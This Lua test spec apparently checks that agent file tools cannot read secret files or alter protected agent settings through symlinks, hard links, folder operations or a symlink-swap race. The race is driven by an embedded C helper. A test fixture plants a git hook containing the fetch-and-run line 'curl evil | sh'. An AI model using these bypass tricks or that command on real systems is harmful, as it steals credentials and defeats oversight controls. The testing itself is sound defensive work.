-- The bypass matrix of issue 10, "Operator rules hold at the point of use":
-- every native tool, and the pack tools that take or walk a path, against
-- four objects reached six ways, with the secrets policy, on the resolver
-- under test. Objects (in one root mounted /workspace, with a nested ro root):
--   S  a denied file:        s/in/.env, a secret marker inside
--   K  a denied folder:      k/.ssh/, a key file of an innocent name (deploy)
--   P  a protected file:     p/.claude/settings.json (readable, never changed;
--                            also .mcp.json, .git/hooks, new settings files)
--   R  a file in a ro root:  v/vendor/lib.txt, root v/vendor mounted /vendor ro,
--                            reached through /workspace/v/vendor
-- Ways: dir (named), par (its folder: list/search it, copy/move/remove it,
-- a prepared folder moved or copied onto the protected place), walk (a
-- search or subtree operation from higher up), sym (a link with an innocent
-- name), hl (a hard link made on the host), race (while the tool runs up
-- to RACE_CALLS times, a helper swaps a name between an innocent file or
-- folder and a link to the object; then between nothing and that link).
-- A cell is ok when every call is refused or reveals nothing (in the whole
-- result, its rendering or the message: no secret's marker, content hash or
-- mtime; a walk, or a listing in the race, names no entry of a denied
-- folder), and afterwards the objects are bit-identical, nothing exists at
-- the protected paths, no file but the objects (and names of theirs) holds
-- a marker, and the outside tree is unchanged (F.guarded). Each row first
-- runs a control on innocent files that must succeed, so a refusal is never
-- just a malformed call. Reads through a hard link are burrow's documented
-- limit: LIMIT, not FAIL. The matrix is printed at the end (with
-- BURROW_MATRIX_VERBOSE=1 also every cell's results and codes); a FAIL
-- fails its row (its object's race case for the race column) and the last case.
-- The rows themselves (objects, tools, cells) are spec/security/bypass_rows.lua.

local R = require "security.bypass_rows"
local printer = require "burrow.toolkit.printer"
local F = R.F
local json = R.json
local ENV_MARK = R.ENV_MARK
local KEY_MARK = R.KEY_MARK
local ENV = R.ENV
local KEY = R.KEY
local PROT = R.PROT
local LIB = R.LIB
local CTRL = R.CTRL
local PLAIN = R.PLAIN
local EVIL = R.EVIL
local MTIME = R.MTIME
local RACE_CALLS = R.RACE_CALLS
local RACE_WALKS = R.RACE_WALKS
local RACE_SECONDS = R.RACE_SECONDS
local WAYS = R.WAYS
local FORBID = R.FORBID
local OBJECTS = R.OBJECTS
local A = R.A
local each = R.each
local READS = R.READS
local WALKS = R.WALKS
local ROWS = R.ROWS

local FLIP_C = [[
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif
static volatile sig_atomic_t stop;
static const char *junkdir;
static unsigned long njunk;
static void on_signal(int s) { (void)s; stop = 1; }
static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }
static int kind(const char *p) { struct stat st; if (lstat(p, &st)) return 0; return S_ISLNK(st.st_mode) ? 1 : 2; }
static void junk(const char *p) { char j[4096]; snprintf(j, sizeof j, "%s/junk.%lu", junkdir, njunk++); rename(p, j); }
static void plain(const char *p, int dir)
{
	char f[4096];
	if (dir) { mkdir(p, 0755); snprintf(f, sizeof f, "%s/deploy", p); p = f; }
	int fd = open(p, O_WRONLY | O_CREAT | O_EXCL, 0644);
	if (fd >= 0) { if (write(fd, "PUBLIC\n# shared\n", 16) < 0) {} close(fd); }
}
int main(int argc, char **argv)
{
	if (argc != 8) { fprintf(stderr, "usage: flip file|dir|gone NAME SPARE TARGET JUNKDIR SECONDS REPORT\n"); return 2; }
	int dir = strcmp(argv[1], "dir") == 0, gone = strcmp(argv[1], "gone") == 0;
	const char *x = argv[2], *y = argv[3], *target = argv[4], *report = argv[7];
	junkdir = argv[5];
	double deadline = now() + atof(argv[6]);
	unsigned long swaps = 0, repairs = 0, errors = 0, i = 0;
	struct sigaction sa; memset(&sa, 0, sizeof sa); sa.sa_handler = on_signal;
	sigaction(SIGTERM, &sa, NULL); sigaction(SIGINT, &sa, NULL);
	while (!stop) {
		int kx = kind(x), ky = kind(y), rc;
		if (kx != 1 && ky != 1) {           /* the link is gone: a new one at y */
			if (ky == 2) junk(y);
			if (gone && kx == 2) junk(x);
			if (symlink(target, y) == 0) repairs++;
			kx = kind(x); ky = kind(y);
		}
		if (dir) {                           /* the innocent folder keeps its file */
			if (kx == 2) plain(x, 1);
			else if (ky == 2) plain(y, 1);
		}
		if (gone) {
			if (kx == 1) rc = rename(x, y);
			else { if (kx == 2) { junk(x); repairs++; } rc = rename(y, x); }
		} else {
			if (kx == 0 && ky == 1) { plain(x, dir); repairs++; }
			else if (ky == 0 && kx == 1) { plain(y, dir); repairs++; }
			rc = (int)syscall(SYS_renameat2, AT_FDCWD, x, AT_FDCWD, y, RENAME_EXCHANGE);
		}
		if (rc == 0) swaps++; else errors++;
		if ((++i & 255) == 0 && now() > deadline) break;
	}
	FILE *f = fopen(report, "w");
	if (f) { fprintf(f, "swaps=%lu repairs=%lu errors=%lu\n", swaps, repairs, errors); fclose(f); }
	return 0;
}
]]

---------------------------------------------------------------------------

describe(F.tag("security: bypass matrix (issue 10)"), function()
  local fx, W, ws, tmp, flip
  local BASE_TREE, MARKS
  local RESULT, DETAIL, INFO, NOTES = {}, {}, {}, {}
  local VERBOSE = (os.getenv("BURROW_MATRIX_VERBOSE") or "") ~= ""
  local T = { rows = 0 }

  local function q(s) return F.q(s) end

  local function write(rel, content) F.write_host(W .. "/" .. rel, content) end

  -- the objects and their folders (again after a bypass damaged them)
  local function build_objects()
    F.sh("cd " .. q(W) .. " && rm -rf s k p g && mkdir -p s/in k/.ssh p/.claude g/.git v/vendor" ..
      " && find v/vendor -mindepth 1 -maxdepth 1 ! -name lib.txt -exec rm -rf {} +")
    write("s/in/.env", ENV); write("s/in/ok.txt", "fine\n")
    write("k/.ssh/deploy", KEY); write("k/.ssh/zq_known", "known host\n"); write("k/ok.txt", "fine\n")
    write("p/.claude/settings.json", PROT); write("p/ok.txt", "fine\n")
    write("g/.git/HEAD", "ref: refs/heads/main\n")
    if F.read_host(W .. "/v/vendor/lib.txt") ~= LIB then write("v/vendor/lib.txt", LIB) end
    F.sh("cd " .. q(W) .. " && touch -d @" .. MTIME .. " s/in/.env k/.ssh/deploy k/.ssh/zq_known")
  end

  -- links, hard links and scratch sources (after every cell that changed something)
  local function scratch()
    F.sh("cd " .. q(W) .. " && rm -rf pub l h q .mcp.json g/.git/hooks" ..
      " && mkdir -p pub/in pub/prep pub/prepw/.claude pub/hooks l h" ..
      " && ln -s ../s/in/.env l/cfg && ln -s ../k/.ssh/deploy l/keyfile && ln -s ../k/.ssh l/keys" ..
      " && ln -s ../p/.claude/settings.json l/prefs.json && ln -s ../p/.claude l/pdir" ..
      " && ln -s ../v/vendor/lib.txt l/lib.txt && ln -s ../v/vendor l/vdir" ..
      " && ln -s ../s/in/.env l/.env.example && ln -s ../s/in l/sdir && ln -s ../k l/kdir && ln -s ../g/.git l/git" ..
      " && ln s/in/.env h/notes.txt && ln k/.ssh/deploy h/id.txt && ln p/.claude/settings.json h/prefs.json" ..
      " && ln v/vendor/lib.txt h/lib.txt")
    write("pub/in/plain.txt", CTRL)
    for i = 1, 3 do write("pub/src" .. i, PLAIN) end
    write("pub/prep/settings.json", EVIL)
    write("pub/prepw/.claude/settings.json", EVIL)
    write("pub/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
  end

  local TREE_CMD = "find s k p v g \\( -type d -printf '%p|d\\n' \\) -o -printf '%p|%y|%s\\n' | sort"

  local function exists(rel) return os.rename(W .. "/" .. rel, W .. "/" .. rel) and true or false end

  lazy_setup(function()
    fx = F.build()
    W = fx.ws
    R.set_host(W)
    build_objects()
    scratch()
    BASE_TREE = F.run("cd " .. q(W) .. " && " .. TREE_CMD)
    local function hash(s)
      local f = os.tmpname()
      F.write_host(f, s)
      local h = F.sh("sha256sum " .. q(f)):match("^(%x+)")
      os.remove(f)
      return h
    end
    MARKS = { { ENV_MARK, "the .env marker" }, { KEY_MARK, "the key marker" },
              { hash(ENV), "the .env content hash" }, { hash(KEY), "the key content hash" },
              { "2001-02-03T04:05:06", "a secret's mtime" }, { "Feb 03 2001", "a secret's mtime" },
              { tostring(MTIME), "a secret's mtime" } }
    local roots = { { path = W, mount = "/workspace", mode = "rw" },
                    { path = W .. "/v/vendor", mount = "/vendor", mode = "ro" } }
    ws = { native = F.open(roots, { policies = { "secrets" } }) }
    for _, p in ipairs { "mcp_filesystem", "claude_code", "codex", "deepagents", "helix", "gemini_cli", "agent_module",
                         "picoclaw", "everruns" } do
      ws[p] = F.open(roots, { policies = { "secrets" }, pack = p })
    end
    tmp = F.mktemp()
    F.write_host(tmp .. "/flip.c", FLIP_C)
    F.sh("cc -O2 -o " .. q(tmp .. "/flip") .. " " .. q(tmp .. "/flip.c"))
    flip = tmp .. "/flip"
    for i = 1, #ROWS do RESULT[i], DETAIL[i], INFO[i] = {}, {}, {} end
  end)

  lazy_teardown(function()
    for _, h in pairs(ws or {}) do pcall(h.close, h) end
    if tmp then F.rmtree(tmp) end
    F.cleanup(fx)
  end)

  ---------------------------------------------------------------------------
  -- one cell

  local function label_of(step)
    local ok, a = pcall(json.encode, step[2])
    a = ok and a or "?"
    if #a > 160 then a = a:sub(1, 160) .. "..." end
    return step[1] .. " " .. a
  end

  -- every string of a value, and its JSON encoding
  local function text_of(v)
    if v == nil then return "" end
    if printer.held(v) then v = v:json() end -- a held set (burrow.toolkit.printer): as the wire has it
    if type(v) == "userdata" then -- a json.fragment (grep's wire form): its JSON text
      local ok, e = pcall(json.encode, v)
      return ok and e or tostring(v)
    end
    if type(v) ~= "table" then return tostring(v) end
    local parts = F.strings(v)
    local ok, e = pcall(json.encode, printer.wire(v))
    if ok and type(e) == "string" then parts[#parts + 1] = e end
    return table.concat(parts, "\n")
  end

  -- the text with the strings the agent wrote taken out (for the name check)
  local function strip(text, step)
    local named = step.named or F.strings(step[2])
    table.sort(named, function(a, b) return #a > #b end)
    for _, s in ipairs(named) do
      if #s > 0 then
        local pat = s:gsub("[%^%$%(%)%%%.%[%]%*%+%-%?]", "%%%0")
        text = text:gsub(pat, "")
      end
    end
    return text
  end

  local function new_state() return { fails = {}, limits = {}, ok = 0, refused = 0, codes = {} } end

  local function inspect(st, o, way, step, text)
    for _, m in ipairs(MARKS) do
      if text:find(m[1], 1, true) then
        local why = label_of(step) .. ": " .. m[2] .. " came back"
        if way == "hl" then st.limits[#st.limits + 1] = why else st.fails[#st.fails + 1] = why end
      end
    end
    local names = o.names and o.names[way]
    if names and (way ~= "sym" or step.walk) then -- a refusal through a link may name the rule it hit
      local t = strip(text, step)
      for _, n in ipairs(names) do
        if t:find(n, 1, true) then
          st.fails[#st.fails + 1] = label_of(step) .. ": names " .. n .. " (" .. text:sub(1, 300):gsub("\n", " ") .. ")"
        end
      end
    end
  end

  local function run_step(st, h, o, way, step)
    if step.setup then step.setup(h); return end
    -- held: the result as an edge that prints it gets it (ws:run), not tables
    local okc, res, msg, code = pcall(step.held and h.run or h.call, h, step[1], step[2], step.hooks)
    if not okc then
      st.fails[#st.fails + 1] = label_of(step) .. ": raised " .. tostring(res)
      return
    end
    if res ~= nil then
      st.ok = st.ok + 1
      local okr, text, structured = pcall(h.render, h, step[1], res)
      inspect(st, o, way, step, text_of(res) .. "\n" .. (okr and (text_of(text) .. "\n" .. text_of(structured)) or ""))
    else
      st.refused = st.refused + 1
      st.codes[tostring(code)] = true
      inspect(st, o, way, step, tostring(msg))
    end
  end

  local OBJ_FILES = { { "s/in/.env", ENV }, { "k/.ssh/deploy", KEY }, { "p/.claude/settings.json", PROT },
                      { "v/vendor/lib.txt", LIB } }

  -- the objects bit-identical, nothing at the protected places
  local function intact(st)
    for _, f in ipairs(OBJ_FILES) do
      if F.read_host(W .. "/" .. f[1]) ~= f[2] then
        st.fails[#st.fails + 1] = f[1] .. " changed or went away"
        st.dirty = true
      end
    end
    for _, p in ipairs(FORBID) do
      if exists(p) then
        st.fails[#st.fails + 1] = p .. " was created"
        st.dirty = true
      end
    end
  end

  local function lines(s)
    local t = {}
    for l in s:gmatch("[^\n]+") do t[l] = true end
    return t
  end

  -- After a call that did something: no marker in any new file, the
  -- objects' folders as they were; then put the scratch back.
  local function settle(st, way)
    local out = F.run("cd " .. q(W) .. " && { stat -c %i s/in/.env k/.ssh/deploy 2>/dev/null; echo @@; grep -rlFZ -D skip -e " ..
      q(ENV_MARK) .. " -e " .. q(KEY_MARK) .. " . 2>/dev/null | xargs -0 -r stat -c '%i %n'; echo @@; " .. TREE_CMD .. "; }")
    local inos, found, tree = out:match("^(.-)@@\n(.-)@@\n(.*)$")
    local holders = lines(inos or "")
    for ino, f in (found or ""):gmatch("(%d+) ([^\n]+)") do
      if not holders[ino] then -- another file than the objects (a name of theirs may move: not a copy)
        local why = "a marker is now in " .. f
        if way == "hl" then st.limits[#st.limits + 1] = why else st.fails[#st.fails + 1] = why end
      end
    end
    if tree ~= BASE_TREE then
      local before, after, diff = lines(BASE_TREE), lines(tree or ""), {}
      for l in pairs(before) do if not after[l] then diff[#diff + 1] = "-" .. l end end
      for l in pairs(after) do if not before[l] then diff[#diff + 1] = "+" .. l end end
      table.sort(diff)
      st.fails[#st.fails + 1] = "the objects' folders changed: " .. table.concat(diff, " ")
      st.dirty = true
    end
    if st.dirty then build_objects() end
    scratch()
  end

  local function verdict(st)
    if #st.fails > 0 then return "FAIL" end
    if #st.limits > 0 then return "LIMIT" end
    return "ok"
  end

  local RANK = { ["N/A"] = 0, ok = 1, LIMIT = 2, FAIL = 3 }

  -- a cell's verdict (the worse one when a cell runs twice: the race's two modes)
  local function record(ri, o, way, st, tag)
    local v, col = verdict(st), o.id .. "." .. way
    if not RESULT[ri][col] or RANK[v] > RANK[RESULT[ri][col]] then RESULT[ri][col] = v end
    local codes = {}
    for c in pairs(st.codes) do codes[#codes + 1] = c end
    table.sort(codes)
    INFO[ri][#INFO[ri] + 1] = ("%s%s %s: %d ok, %d refused (%s)"):format(col, tag or "", v, st.ok, st.refused,
      table.concat(codes, ","))
    if v ~= "ok" then
      local why = #st.fails > 0 and st.fails or st.limits
      DETAIL[ri][#DETAIL[ri] + 1] = ("%s %s%s: %s"):format(v, col, tag or "", table.concat(why, " | ", 1, math.min(#why, 4)))
    end
    return v
  end

  local function run_cell(ri, row, o, way, steps)
    local st = new_state()
    local h = ws[row.ws]
    for _, step in ipairs(steps) do run_step(st, h, o, way, step) end
    intact(st)
    if st.dirty or (not READS[row.cells] and (st.ok > 0 or steps[1].setup)) then settle(st, way) end
    return record(ri, o, way, st)
  end

  local function control(row)
    local h = ws[row.ws]
    local seen = {}
    for _, step in ipairs(row.control) do
      local res, msg, code = (step.held and h.run or h.call)(h, step[1], step[2], step.hooks)
      assert(res ~= nil, row.label .. ": the control " .. label_of(step) .. " failed: " .. tostring(code) .. " " ..
        tostring(msg))
      -- a wire row must really hold the core's match set
      assert(not row.wire or printer.held(res.matches), row.label .. ": the control got match tables")
      local okr, text = pcall(h.render, h, step[1], res)
      seen[#seen + 1] = text_of(res) .. (okr and text_of(text) or "")
    end
    if row.expect then
      local all = table.concat(seen, "\n")
      assert(all:find(row.expect, 1, true), row.label .. ": the control did not show " .. row.expect .. ": " ..
        all:sub(1, 300))
    end
    scratch()
  end

  local function row_fails(ri, prefix)
    local out = {}
    for _, d in ipairs(DETAIL[ri]) do
      if d:sub(1, 4) == "FAIL" and (not prefix or d:find(prefix, 1, true)) then out[#out + 1] = d end
    end
    return out
  end

  for ri, row in ipairs(ROWS) do
    it(row.label .. ": every cell refused or reveals nothing", function()
      local t0 = F.now()
      F.guarded(fx, row.label, function()
        control(row)
        for _, o in ipairs(OBJECTS) do
          for _, way in ipairs(WAYS) do
            if way ~= "race" then
              local steps = row.cells(o, way)
              if not steps or #steps == 0 then RESULT[ri][o.id .. "." .. way] = "N/A"
              else run_cell(ri, row, o, way, steps) end
            end
          end
        end
        local st = new_state()
        intact(st)
        settle(st, "dir")
        if #st.fails > 0 then
          DETAIL[ri][#DETAIL[ri] + 1] = "FAIL (row end): " .. table.concat(st.fails, " | ")
        end
      end)
      T.rows = T.rows + (F.now() - t0)
      INFO[ri][#INFO[ri] + 1] = ("%.2f s"):format(F.now() - t0)
      local fails = row_fails(ri)
      assert(#fails == 0, row.label .. ":\n  " .. table.concat(fails, "\n  "))
    end)
  end

  ---------------------------------------------------------------------------
  -- the race column: per object, a helper in each mode, every row's race
  -- cell in turn while it runs

  local function fill(v, n)
    if type(v) == "string" then return (v:gsub("@N", tostring(n))) end
    if type(v) ~= "table" then return v end
    local t = {}
    for k, x in pairs(v) do t[k] = fill(x, n) end
    return t
  end

  -- one mode: returns the helper's report and how many cells saw both sides
  local function race_phase(o, mode)
    local x, y = W .. "/race/x", W .. "/race/y"
    F.sh("cd " .. q(W) .. " && rm -rf race && mkdir race")
    if mode == "dir" then
      F.sh("mkdir " .. q(x))
      F.write_host(x .. "/deploy", PLAIN)
    elseif mode == "file" then
      F.write_host(x, PLAIN)
    end
    F.sh("ln -s " .. q(o.race_target) .. " " .. q(y))
    local rep = tmp .. "/report." .. o.id .. mode
    local p = F.spawn("exec " .. q(flip) .. " " .. mode .. " " .. q(x) .. " " .. q(y) .. " " .. q(o.race_target) ..
      " " .. q(W .. "/race") .. " 120 " .. q(rep))
    F.sleep(0.02)
    local both, cells = 0, 0
    local ok, err = pcall(function()
      for ri, row in ipairs(ROWS) do
        local steps = row.cells(o, "race")
        if not steps or #steps == 0 then
          RESULT[ri][o.id .. ".race"] = RESULT[ri][o.id .. ".race"] or "N/A"
        else
          local st, h = new_state(), ws[row.ws]
          local deadline = F.now() + RACE_SECONDS
          for i = 1, WALKS[row.cells] and RACE_WALKS or RACE_CALLS do
            for _, step in ipairs(steps) do run_step(st, h, o, "race", fill(step, i)) end
            if F.now() > deadline then break end
          end
          intact(st)
          if st.dirty or (not READS[row.cells] and st.ok > 0) then settle(st, "race") end
          cells = cells + 1
          if st.ok > 0 and st.refused > 0 then both = both + 1 end
          record(ri, o, "race", st, " (" .. mode .. ")")
        end
      end
    end)
    F.stop(p)
    local report = (F.read_host(rep) or ""):gsub("\n", "")
    F.sh("rm -rf " .. q(W .. "/race"))
    if not ok then error(err, 0) end
    return report, both, cells
  end

  for _, o in ipairs(OBJECTS) do
    local swap = o.dir_race and "dir" or "file"
    it(("race %s (%s): up to %d calls per tool while race/x flips between an innocent %s and a link to it," ..
        " then between absent and the link"):format(o.id, o.what, RACE_CALLS, swap == "dir" and "folder" or "file"), function()
      local t0 = F.now()
      local reports = {}
      F.guarded(fx, "race " .. o.id, function()
        for _, mode in ipairs { swap, "gone" } do
          local report, both, cells = race_phase(o, mode)
          reports[#reports + 1] = report
          NOTES[#NOTES + 1] = ("race %s %s: helper %s; %d of %d cells saw a result and a refusal")
            :format(o.id, mode, report, both, cells)
        end
        local st = new_state()
        intact(st)
        settle(st, "race")
        if #st.fails > 0 then error("race " .. o.id .. ": " .. table.concat(st.fails, " | "), 0) end
      end)
      NOTES[#NOTES + 1] = ("race %s: %.1f s"):format(o.id, F.now() - t0)
      for _, r in ipairs(reports) do
        assert((tonumber(r:match("swaps=(%d+)")) or 0) > 0, "the race helper never swapped: " .. r)
      end
      local fails = {}
      for ri in ipairs(ROWS) do
        for _, d in ipairs(row_fails(ri, o.id .. ".race")) do fails[#fails + 1] = ROWS[ri].label .. ": " .. d end
      end
      assert(#fails == 0, table.concat(fails, "\n  "))
    end)
  end

  ---------------------------------------------------------------------------

  it("prints the matrix; no cell is FAIL", function()
    local cols, head1, head2 = {}, { ("%-36s"):format("") }, { ("%-36s"):format("tool") }
    for _, o in ipairs(OBJECTS) do
      head1[#head1 + 1] = ("| %-35s"):format(o.id .. ": " .. o.what:sub(1, 31))
      local h = {}
      for _, way in ipairs(WAYS) do
        cols[#cols + 1] = o.id .. "." .. way
        h[#h + 1] = ("%-5s"):format(way)
      end
      head2[#head2 + 1] = "| " .. table.concat(h, " ")
    end
    print("\nbypass matrix [resolver=" .. F.BACKEND .. "]")
    print(table.concat(head1, ""))
    print(table.concat(head2, " "))
    local fails, limits = {}, {}
    for ri, row in ipairs(ROWS) do
      local line = { ("%-36s"):format(row.label) }
      for k = 1, #OBJECTS do
        local c = {}
        for w = 1, #WAYS do
          local v = RESULT[ri][cols[(k - 1) * #WAYS + w]] or "-"
          c[#c + 1] = ("%-5s"):format(v)
        end
        line[#line + 1] = "| " .. table.concat(c, " ")
      end
      print(table.concat(line, " "))
      for _, d in ipairs(DETAIL[ri]) do
        if d:sub(1, 4) == "FAIL" then fails[#fails + 1] = row.label .. ": " .. d
        else limits[#limits + 1] = row.label .. ": " .. d end
      end
    end
    print("ways: dir named, par its folder, walk from higher up, sym a link, hl a hard link, race a swapped name;"
      .. " '-' not run")
    print(("rows (all but the race column): %.1f s"):format(T.rows))
    for _, n in ipairs(NOTES) do print(n) end
    if VERBOSE then
      for ri, row in ipairs(ROWS) do
        for _, i in ipairs(INFO[ri]) do print(row.label .. ": " .. i) end
      end
    end
    for _, l in ipairs(limits) do print(l) end
    for _, f in ipairs(fails) do print(f) end
    local missing = 0
    for ri in ipairs(ROWS) do
      for _, c in ipairs(cols) do if RESULT[ri][c] == nil then missing = missing + 1 end end
    end
    assert(#fails == 0, #fails .. " FAIL cells:\n  " .. table.concat(fails, "\n  "))
    assert(missing == 0, missing .. " cells did not run")
  end)
end)
